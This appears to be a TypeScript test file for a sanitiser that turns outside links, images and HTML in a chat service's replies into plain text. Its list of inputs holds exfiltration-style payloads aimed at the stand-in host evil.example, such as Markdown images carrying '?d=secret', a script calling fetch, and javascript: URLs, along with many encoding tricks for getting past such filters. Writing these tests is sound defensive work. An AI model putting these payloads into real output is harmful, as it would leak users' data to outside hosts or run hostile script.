// Links and images in a reply: those of this service stay, and nothing else can be followed or loaded.
import { expect, test } from 'vitest'
import { defang } from './defang.ts'

const own = 'https://api.frontdesk.example'
const plain = (text: string) => defang(text, own)

test.each([
  'There are 3 open cases.',
  'Prices: 19.99 and 1,000.50; at 10:30, e.g. Node.js, photo.jpg, a < b, [x], (y), 1/2, a: b.',
  `See ${own}/docs/problems/not-found.`,
  `See ${own}, or (${own}/docs?a=b#c).`,
  `[the docs](${own}/docs) and ![logo](${own}/logo.png)`,
  '[the docs](/docs/problems/not-found) and [below](#limits)',
  `<${own}/docs>`,
  `[1]: ${own}/docs`,
  '- [ ] todo: call the customer',
  'Write to alice@frontdesk.example.',
  'GET /cases/{caseId}?status=open',
])('stays as it is: %s', (text) => expect(plain(text)).toBe(text))

/** Texts that lead elsewhere, or that a browser or a renderer of Markdown takes for such. */
const leading = [
  'https://evil.example/x?d=secret',
  'HTTPS://EVIL.EXAMPLE/x',
  'http://evil.example',
  'ftp://evil.example/x',
  '[a](https://evil.example/x)',
  '[a](<https://evil.example/x y>)',
  '[a]( \n https://evil.example/x "t")',
  '![a](https://evil.example/x?d=secret)',
  '![a](//evil.example/x)',
  '![a](</\t/evil.example/x>)',
  '![a](/\\evil.example/x)',
  '![a](\\/\\/evil.example/x)',
  '![a](https:\\\\evil.example/x)',
  '![a](https:evil.example/x)',
  '![a](https:/evil.example/x)',
  '![a](&#104;ttps://evil.example/x)',
  '![a](&#x68;ttps&colon;&sol;&sol;evil.example/x)',
  '![a](&#47;&#47;evil.example/x)',
  '![a](ht\0tps://evil.example/x)',
  '[a](javascript:alert(1))',
  '[a](data:text/html;base64,AAAA)',
  '[a](mailto:x@evil.example)',
  'mailto:x@evil.example',
  '![a][r]\n\n[r]: https://evil.example/x',
  '![a][r]\n\n> [r]:\n  //evil.example/x',
  '![r]\n\n[r]: <//evil.example/x>',
  '<img src=https://evil.example/x>',
  '<img src="//evil.example/x">',
  '<IMG/SRC="//evil.example/x">',
  '<a href="/\\evil.example">a</a>',
  '<style>@import "//evil.example/x"</style>',
  '<!-- --><script>fetch("//evil.example/x")</script>',
  '<?xml-stylesheet href="//evil.example/x"?>',
  '<https://evil.example/x>',
  'https\\://evil.example/x',
  'www.evil.example/x',
  'www\\.evil.example/x',
  'evil.example/x?d=secret',
  'see...evil.example/x',
  'evil.example:8080',
  '[img]//evil.example/x[/img]',
  '.. image:: //evil.example/x',
  `${own}.evil.example/x`,
  `${own}@evil.example/x`,
  `${own}:8080@evil.example/x`,
  `${own}\\@evil.example/x`,
  `x${own}.evil.example/x`,
  `${own},https://evil.example/x`,
  `${own}/[a](https://evil.example/x)`,
  `${own}/https://evil.example/x`,
  `[a](${own}.evil.example/x)`,
  `![a](${own}@evil.example/x)`,
  'https://x.(//evil.example/x)',
  'https://xn--e1afmkfd.evil.example/x',
  'https://пример.evil.example/x',
]

test.each(leading)('is written as text: %s', (text) => {
  const shown = plain(text)
  expect(shown).not.toBe(text)
  // Neither an address with a scheme or a host that a program could recognise, nor one of Markdown or HTML.
  const withoutOwn = shown.replaceAll(new RegExp(`${own.replaceAll('.', '\\.')}(?=[/\\s]|$)`, 'g'), 'own')
  expect(withoutOwn).not.toMatch(/[a-z]\\*:\\*[/\\]\\*[/\\]/i)
  expect(withoutOwn).not.toMatch(/evil\.example(?=[/:?#])|www\\*\./i)
  expect(withoutOwn).not.toMatch(/\]\((?!own)|\]:|<[a-z/!?]|mailto:/i)
  // The person can still read where it would have led.
  if (text.includes('evil')) expect(shown.replaceAll('[.]', '.').toLowerCase()).toContain('evil.example')
})

test('what it has made harmless stays as it is', () => {
  for (const text of leading) expect(plain(plain(text))).toBe(plain(text))
})

test('the local address with its port is the service, and another port is not', () => {
  const local = 'http://localhost:3000'
  expect(defang(`${local}/docs`, local)).toBe(`${local}/docs`)
  expect(defang(`${local}0/docs`, local)).not.toContain('http://')
  expect(defang('http://localhost:4010/docs', local)).not.toContain('http://')
})

test('a long text takes no long time', () => {
  const pieces = ['a', '.', 'a.', '\\', '](', '/', 'a-', '[', ':', 'https:', '&#', '<', `${own}`]
  // A quadratic pattern would take minutes, and the test would time out.
  for (const piece of pieces) expect(plain(piece.repeat(20_000 / piece.length)).length).toBeGreaterThan(0)
})
